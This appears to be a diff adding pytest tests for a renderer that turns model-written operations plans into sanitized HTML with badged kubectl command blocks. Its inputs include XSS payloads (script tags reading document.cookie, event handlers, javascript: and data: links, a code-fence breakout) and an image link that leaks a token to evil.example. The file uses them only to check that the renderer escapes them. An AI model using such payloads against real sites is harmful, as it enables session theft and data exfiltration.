@@ -1,0 +1,88 @@
+"""Model output is untrusted: it renders as inert, sanitized HTML with badged command blocks."""
+
+from html.parser import HTMLParser
+
+import pytest
+
+from app.planning.markdown import render_plan
+
+
+def live_tags(html):
+    """(tag, attributes) of every element a browser would build from this HTML."""
+    found = []
+
+    class Collector(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            found.append((tag, dict(attrs)))
+    Collector().feed(html)
+    return found
+
+
+@pytest.mark.parametrize("hostile", [
+    "<script>alert(document.cookie)</script>",
+    '<img src=x onerror="alert(1)">',
+    "[click me](javascript:alert(1))",
+    "[click me](JaVaScRiPt:alert(1))",
+    '<a href="javascript:alert(1)">x</a>',
+    '<div onclick="alert(1)">hi</div>',
+    '<iframe src="https://evil.example"></iframe>',
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    '<svg onload="alert(1)"></svg>',
+    "```bash\nkubectl -n team-a get pods </code></pre><script>alert(1)</script>\n```",
+])
+def test_hostile_markup_renders_inert(hostile):
+    tags = live_tags(render_plan(hostile, {"team-a"}))
+    assert not {tag for tag, _ in tags} & {"script", "img", "iframe", "svg", "object", "embed", "style"}
+    for _, attrs in tags:
+        assert not [name for name in attrs if name.startswith("on")]
+        assert not str(attrs.get("href", "")).lower().startswith(("javascript:", "data:"))
+
+
+def test_raw_html_is_shown_as_text():
+    assert render_plan("Hello <b>world</b>") == "<p>Hello &lt;b&gt;world&lt;/b&gt;</p>\n"
+
+
+def test_markdown_images_are_dropped_so_nothing_loads():
+    html = render_plan("![status](https://evil.example/pixel.png?leak=token)")
+    assert "<img" not in html and "evil.example" not in html
+
+
+def test_links_are_kept_safe():
+    html = render_plan("[docs](https://kubernetes.io/docs/)")
+    assert '<a href="https://kubernetes.io/docs/" rel="noopener noreferrer nofollow">docs</a>' in html
+
+
+def test_each_command_gets_its_own_block_badge_and_copy_button():
+    html = render_plan("```bash\n# look first\nkubectl -n team-a get pods\n"
+                       "kubectl -n team-a rollout undo deployment/web\n```", {"team-a"})
+    assert html.count('class="plan-command"') == 2
+    assert html.count('<button type="button" class="plan-copy" aria-label="Copy command">Copy</button>') == 2
+    assert '<span class="badge badge-read-only">read-only</span>' in html
+    assert '<span class="badge badge-changes">changes cluster</span>' in html
+    assert '<pre><code class="language-bash"># look first\n</code></pre>' in html
+    assert "badge-outside" not in html
+
+
+def test_commands_aimed_at_other_namespaces_are_flagged():
+    html = render_plan("```bash\nkubectl -n team-z delete pod web-1\nkubectl get pods -A\n```", {"team-a"})
+    assert "namespace not granted: team-z" in html
+    assert "namespace not granted: all namespaces" in html
+
+
+def test_other_code_blocks_are_escaped_and_keep_their_language():
+    html = render_plan('```yaml\nmetadata: {name: "<web>"}\n```')
+    assert html == '<pre><code class="language-yaml">metadata: {name: "&lt;web&gt;"}\n</code></pre>\n'
+
+
+def test_unknown_language_classes_are_not_emitted():
+    html = render_plan('```evil" onmouseover="x\nhi\n```')
+    assert "onmouseover" not in html and "<pre><code>hi\n</code></pre>" in html
+
+
+def test_a_whole_offline_plan_renders_with_badged_commands(model):
+    from planning_helpers import collect, messages_for
+    from planning_samples import CASES
+    _, messages = messages_for(CASES["oom"])
+    html = render_plan("".join(collect(model, messages)[0]), {"team-c"})
+    assert html.count('class="plan-command"') >= 4
+    assert "badge-changes" in html and "badge-read-only" in html and "badge-outside" not in html
